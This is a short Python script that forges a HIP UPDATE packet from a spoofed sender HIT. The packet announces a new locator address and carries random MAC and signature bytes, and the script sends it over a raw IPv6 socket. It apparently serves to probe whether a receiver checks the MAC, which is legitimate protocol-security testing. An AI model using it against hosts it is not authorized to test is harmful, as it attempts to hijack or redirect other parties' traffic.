#!/usr/bin/env python3
"""hip_spoof.py - send a forged HIP UPDATE, as an attacker who knows the
two HITs of an association but none of its keys would.

  hip_spoof.py SRC DST SENDER_HIT RECEIVER_HIT LOCATOR [SPI]

From SRC to DST (IPv6), an UPDATE claiming to come from SENDER_HIT with
ESP_INFO (old = new = SPI, default 0x100), LOCATOR_SET announcing LOCATOR
as the sender's new address, SEQ, and a HIP_MAC and HIP_SIGNATURE of
random octets.  The checksum is right, so the packet reaches the
receiver's engine and is judged on its MAC (RFC 7401 6.4, RFC 8046 5.3).
"""
import ipaddress
import os
import socket
import struct
import sys

HIP_PROTO = 139
HIP_UPDATE = 16
ESP_INFO, LOCATOR_SET, SEQ = 65, 193, 385
HIP_MAC, HIP_SIGNATURE = 61505, 61697


def param(ptype, body):
    """A TLV padded to a multiple of 8 octets (RFC 7401 5.2.1)."""
    tlv = struct.pack("!HH", ptype, len(body)) + body
    return tlv + bytes((-len(tlv)) % 8)


def inet_sum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def build(src, dst, shit, rhit, loc, spi):
    locator = ipaddress.IPv6Address(loc).packed
    params = param(ESP_INFO, struct.pack("!HHII", 0, 0, spi, spi))
    # traffic type 0 (both), locator type 1 (ESP SPI + address), length
    # 5 words, P bit set (preferred), lifetime 600 s
    params += param(LOCATOR_SET, struct.pack("!BBBBI", 0, 1, 5, 1, 600) +
                    struct.pack("!I", spi) + locator)
    params += param(SEQ, struct.pack("!I", 1))
    params += param(HIP_MAC, os.urandom(32))
    params += param(HIP_SIGNATURE, struct.pack("!H", 7) + os.urandom(64))
    body_len = 40 + len(params)
    hdr = struct.pack("!BBBBHH", 59, (body_len - 8) // 8, HIP_UPDATE,
                      0x21, 0, 0) + shit + rhit
    pkt = hdr + params
    pseudo = (src + dst + struct.pack("!I", len(pkt)) + bytes(3) +
              bytes([HIP_PROTO]))
    csum = inet_sum(pseudo + pkt)
    return pkt[:4] + struct.pack("!H", csum) + pkt[6:]


def main(argv):
    if len(argv) not in (6, 7):
        sys.stderr.write(__doc__)
        return 2
    src = ipaddress.IPv6Address(argv[1]).packed
    dst = ipaddress.IPv6Address(argv[2]).packed
    shit = ipaddress.IPv6Address(argv[3]).packed
    rhit = ipaddress.IPv6Address(argv[4]).packed
    spi = int(argv[6], 0) if len(argv) == 7 else 0x100
    pkt = build(src, dst, shit, rhit, argv[5], spi)
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, HIP_PROTO)
    s.bind((argv[1], 0))
    s.sendto(pkt, (argv[2], 0))
    print(len(pkt))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
